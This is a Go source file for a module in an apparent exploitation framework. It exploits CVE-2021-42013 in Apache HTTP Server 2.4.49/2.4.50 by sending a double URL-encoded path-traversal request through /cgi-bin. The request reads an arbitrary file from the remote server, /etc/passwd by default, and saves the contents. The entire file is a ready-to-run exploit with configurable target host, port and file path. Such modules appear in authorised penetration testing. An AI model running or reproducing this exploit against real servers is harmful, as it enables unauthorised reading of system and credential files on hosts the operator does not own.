// Package apachetrav implements the cve.cve_2021_42013 module, the
// Apache HTTP Server 2.4.49/2.4.50 double URL-encoded path traversal.
package apachetrav

import (
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"strconv"
	"strings"
	"time"

	"github.com/arsenal-framework/arsenal/internal/app"
	"github.com/arsenal-framework/arsenal/internal/artifacts"
	"github.com/arsenal-framework/arsenal/internal/modules"
	"github.com/arsenal-framework/arsenal/internal/options"
)

// %%32%65 decodes twice to ".", which Apache 2.4.50 fails to reject.
const traversalSegment = ".%%32%65/.%%32%65/.%%32%65/.%%32%65/.%%32%65"

type Module struct {
	opts *options.Set
}

func New() modules.Module {
	return &Module{opts: options.MustNewSet(
		options.Spec{Name: "RHOST", Type: options.TypeString, Required: true, Description: "Apache host or IP"},
		options.Spec{Name: "RPORT", Type: options.TypeInt, Default: "80", Description: "Apache port"},
		options.Spec{Name: "SCHEME", Type: options.TypeEnum, Enum: []string{"http", "https"}, Default: "http", Description: "Transport scheme"},
		options.Spec{Name: "BASE_PATH", Type: options.TypeString, Default: "/cgi-bin", Description: "Mapped path used as the traversal anchor"},
		options.Spec{Name: "FILE", Type: options.TypeString, Default: "/etc/passwd", Description: "Absolute file path to read"},
		options.Spec{Name: "TIMEOUT", Type: options.TypeInt, Default: "5", Description: "Request timeout in seconds"},
		options.Spec{Name: artifacts.OptionName, Type: options.TypeString, Description: "Write results to this JSON file (empty for workspace default)"},
	)}
}

func (m *Module) Name() string { return "apache_path_traversal" }
func (m *Module) Description() string {
	return "Apache 2.4.49/2.4.50 double-encoded path traversal file read (CVE-2021-42013)"
}
func (m *Module) Options() *options.Set { return m.opts }

func (m *Module) Execute(ctx app.Context) (modules.Outcome, error) {
	host := m.opts.String("RHOST", "")
	port := m.opts.Int("RPORT", 80)
	scheme := m.opts.String("SCHEME", "http")
	base := strings.TrimSuffix(m.opts.String("BASE_PATH", "/cgi-bin"), "/")
	file := m.opts.String("FILE", "/etc/passwd")
	timeout := time.Duration(m.opts.Int("TIMEOUT", 5)) * time.Second

	baseURL := fmt.Sprintf("%s://%s/", scheme, net.JoinHostPort(host, strconv.Itoa(port)))
	// The double-encoded segments are not parseable as a URL path, so
	// the raw request path is carried in Opaque.
	rawPath := fmt.Sprintf("%s/%s%s", base, traversalSegment, file)

	client := &http.Client{
		Timeout: timeout,
		Transport: &http.Transport{
			TLSClientConfig: &tls.Config{InsecureSkipVerify: true},
		},
		CheckRedirect: func(req *http.Request, via []*http.Request) error {
			return http.ErrUseLastResponse
		},
	}

	req, err := http.NewRequestWithContext(ctx.Ctx, http.MethodGet, baseURL, nil)
	if err != nil {
		return modules.Outcome{}, fmt.Errorf("build request: %w", err)
	}
	req.URL.Opaque = rawPath

	resp, err := client.Do(req)
	if err != nil {
		return modules.Outcome{}, fmt.Errorf("request failed: %w", err)
	}
	defer func() { _ = resp.Body.Close() }()

	body, err := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
	if err != nil {
		return modules.Outcome{}, fmt.Errorf("read response: %w", err)
	}
	content := string(body)

	vulnerable := resp.StatusCode == http.StatusOK && len(strings.TrimSpace(content)) > 0

	out := modules.Outcome{
		Success: vulnerable,
		Data: map[string]any{
			"target":  fmt.Sprintf("%s://%s:%d", scheme, host, port),
			"file":    file,
			"status":  resp.StatusCode,
			"preview": preview(content, 400),
		},
	}
	if vulnerable {
		out.Summary = fmt.Sprintf("%s is vulnerable, read %d bytes of %s", host, len(body), file)
		out.Data["content"] = content
	} else {
		out.Summary = fmt.Sprintf("%s does not appear vulnerable (status %d)", host, resp.StatusCode)
	}
	if path, werr := artifacts.MaybeWrite(ctx, m.opts, "cve.cve_2021_42013", out); werr != nil {
		return out, werr
	} else if path != "" {
		out.Data["output_file"] = path
	}
	return out, nil
}

func preview(s string, maxLen int) string {
	s = strings.ReplaceAll(s, "\n", " ")
	s = strings.ReplaceAll(s, "\r", "")
	if len(s) > maxLen {
		return s[:maxLen] + "..."
	}
	return s
}
